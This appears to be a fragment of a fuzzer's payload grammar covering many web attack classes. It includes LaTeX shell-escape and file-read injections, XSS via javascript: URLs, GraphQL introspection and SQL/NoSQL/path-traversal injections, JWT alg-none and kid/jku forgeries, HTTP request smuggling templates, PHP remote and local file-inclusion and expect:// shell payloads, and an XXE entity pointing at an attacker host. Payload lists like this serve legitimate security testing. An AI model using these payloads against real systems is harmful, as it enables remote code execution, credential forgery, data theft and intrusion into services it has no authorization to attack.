        3× \immediate\write18{«shellcmd»«¦ > «rand».txt¦ | base64 > «rand».tex»}«¦\input{«rand».txt}»
        \input{|"«shellcmd»"}
        \input|«shellcmd»
        \newread\file\openin\file=«unixfile»\read\file to\line\text{\line}\closein\file
        \newwrite\outfile\openout\outfile=«rand».tex\write\outfile{«rand»}\closeout\outfile
        \usepackage{verbatim}\verbatiminput{«unixfile»}
        \catcode`\$=12\catcode`\#=12\input{«unixfile»}
        \url{javascript:alert(1)}
        \href{javascript:alert(1)}{«word»}
        \def\x{\x\x}\x
        \loop\iftrue\repeat
        \unicode{<img src=1 onerror="alert(1)">}
        §graphql
        2× {__schema{«types{name«¦,fields{name}¦ kind description»}¦queryType{name}¦mutationType{fields{name args{name}}}¦directives{name}»}}
        query«¦ IntrospectionQuery»{__schema{«queryType{name}«¦ mutationType{name}» types{...FullType}¦types{name fields{name type{name kind ofType{name kind}}}}»}}«¦fragment FullType on __Type{kind name fields(includeDeprecated:true){name}}»
        {"query":"«¦query »{__«schema{types{name}}¦type(name:\"«User¦Query¦Mutation»\"){fields{name}}¦schema{queryType{fields{name}}}»}"}
        {__type(name:"«User¦Query¦«word»»"){«name fields{name type{name}}¦fields{name}»}}
        query{«gqlalias*4-20»}
        [{"query":"{«word»}"},{"query":"{«word»}"},{"query":"mutation{login(«user¦username»:\"«word»\",«pass¦password»:\"«rand»\"){token}}"}]
        mutation{«gqllogin*2-9»}
        query{«word»(«id¦search»:"«' or 1=1--¦«num»' UNION SELECT 1,2,3--¦{\"$ne\":null}¦../../../«unixfile»»"){id «password¦email»}}
        query{«gqla»{«gqla»{«gqla»{«gqla»{«gqla»{id}}}}}}
        §gqla
        «user¦posts¦author¦comments¦friends»
        §gqlalias
        «$l:letter»«#1-999»:«__typename ¦user(id:«#1-999»){password} ¦systemUpdate »
        §gqllogin
        a«#1-999»:login(pass:"«rand»",user:"«word»"){token}␠
        §jwt
        3× eyJhbGciOiJub25lIi«wi¦wg¦J9.eyJ»«rand→b64clean»«rand→b64clean».eyJ«rand→b64clean»«rand→b64clean».
        {"alg":"«none¦None¦NONE¦nOnE¦HS256»"«¦,"typ":"JWT"»«¦,"kid":"«../../../../dev/null¦«word»' UNION SELECT 'key¦|«shellcmd»¦/dev/null»"¦,"jku":"«evilurl»"¦,"x5u":"«evilurl»"¦,"jwk":{"kty":"RSA","n":"«rand»"}»}
        «jwtalg→b64clean».eyJ«rand→b64clean»«rand→b64clean».
        §jwtalg
        {"alg":"«none¦None¦nOnE»","typ":"JWT"}
        {"typ":"JWT","alg":"«none¦HS256»","kid":"«../../../dev/null¦«word»' or '1'='1»"}
        §smuggle
        3× 0␍␤␍␤«GET¦POST»«smugpath» HTTP/1.1␍␤Host: «localhost¦«evilhost»¦127.0.0.1»␍␤«X: x¦Foo: x¦X-Ignore: X¦Content-Length: «#1-99»␍␤␍␤x=»
        Transfer-Encoding«¦X»«: xchunked¦ : chunked¦:␉chunked¦: xchunked¦:␋chunked¦: chunked␍␤Transfer-Encoding: «x¦identity¦cow»»
        «#1-9»␍␤«letter*1-9»␍␤0␍␤␍␤«GET¦POST» «smugpath» HTTP/1.1␍␤«word»: «word»
        «word»␍␤␍␤«GET¦POST¦PUT¦DELETE» «smugpath» HTTP/1.1␍␤Host: «evilhost»
        %20HTTP/1.1%0d%0a«Host:%20«evilhost»¦X:%20«rand»»%0d%0a%0d%0a«GET%20/«word»%20HTTP/1.1¦»
        «num»%20HTTP/1.1%0D%0A«header→url»%0D%0A
        §smugpath
        ␠/«admin¦404¦post/comment¦«word»»
        ␠«http://«evilhost»»/
        §lfiextra
        2× «param»=«php://filter/convert.base64-encode/resource=«word»¦data:text/plain,<?php «phpbody»?>¦expect://«shellcmd»¦«evilurl»?¦php://input»
        «php¦zip¦phar¦data¦compress.zlib¦glob¦expect¦input»://«filter/read=string.rot13/resource=«word».php¦«evilhost»/«rand».txt¦text/plain;base64,«phpcode→b64»»
        «include¦require¦include_once¦require_once»«(¦ »'««evilurl»¦«unixfile»»'«)¦»;
        <?php «include¦require»("««evilurl»¦«unixfile»»");?>
        <!ENTITY x SYSTEM "«evilurl»">
        """";
}
